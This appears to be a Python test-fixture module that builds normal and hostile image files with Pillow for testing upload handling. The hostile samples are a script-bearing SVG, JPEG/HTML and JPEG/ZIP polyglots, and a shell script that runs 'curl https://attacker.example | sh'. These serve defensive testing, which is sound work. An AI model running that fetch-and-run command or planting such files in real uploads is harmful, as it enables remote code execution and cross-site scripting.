"""Real picture files, and hostile ones, made with Pillow for upload tests."""

import io

from PIL import ExifTags, Image, ImageCms, features

HAS_AVIF = features.check("avif")


def photo(width=1200, height=800, colour=(40, 110, 200)) -> Image.Image:
    """Return an RGB picture with a red block top-left, to tell orientation."""
    image = Image.new("RGB", (width, height), colour)
    image.paste((220, 30, 30), (0, 0, width // 4, height // 4))
    return image


def encoded(image: Image.Image, image_format: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


def jpeg(width=1200, height=800, **options) -> bytes:
    return encoded(photo(width, height), "JPEG", quality=90, **options)


def png_with_alpha(width=1000, height=700) -> bytes:
    image = photo(width, height).convert("RGBA")
    image.putalpha(128)
    return encoded(image, "PNG")


def webp(width=1000, height=700) -> bytes:
    return encoded(photo(width, height), "WEBP", quality=90)


def avif(width=1000, height=700) -> bytes:
    return encoded(photo(width, height), "AVIF", quality=80)


def rotated_jpeg() -> bytes:
    """A landscape photo stored sideways, upright only through EXIF.

    The pixels are 800 × 1200 (portrait); orientation 6 says "turn a quarter
    turn clockwise to view", so readers must see 1200 × 800.
    """
    upright = photo(1200, 800)
    stored = upright.transpose(Image.Transpose.ROTATE_90)  # as the camera wrote it
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Example Camera"
    return encoded(stored, "JPEG", quality=90, exif=exif.tobytes())


def gps_jpeg() -> bytes:
    """A photo carrying its GPS position, an XMP packet and a comment."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Example Camera"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (59.0, 51.0, 0.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (8.0, 39.0, 0.0),
    }
    return encoded(
        photo(),
        "JPEG",
        quality=90,
        exif=exif.tobytes(),
        comment=b"secret location",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPSLatitude</x:xmpmeta>',
    )


def adobe_rgb_jpeg() -> bytes:
    """A photo tagged with a non-sRGB profile (LAB stands in for Adobe RGB)."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB"))
    return encoded(photo(), "JPEG", quality=90, icc_profile=profile.tobytes())


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" '
    b'height="600"><script>alert(document.cookie)</script></svg>'
)
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://attacker.example | sh\n"


def jpeg_with_html_appended() -> bytes:
    """A valid JPEG with an HTML page after its end: a polyglot."""
    return jpeg() + b"<html><body><script>alert(1)</script></body></html>"


def jpeg_with_zip_appended() -> bytes:
    """A valid JPEG followed by a ZIP archive (the GIFAR trick)."""
    return (
        jpeg() + b"PK\x03\x04" + b"\x00" * 26 + b"payload" + b"PK\x05\x06" + bytes(18)
    )


def jpeg_with_script_comment() -> bytes:
    """A valid JPEG whose comment segment holds a script."""
    return encoded(photo(), "JPEG", comment=b"*/=1;<script>alert(1)</script>/*")


def truncated_jpeg() -> bytes:
    data = jpeg()
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = encoded(photo(), "PNG")
    return data[: len(data) // 2]


def gif() -> bytes:
    return encoded(photo(), "GIF")
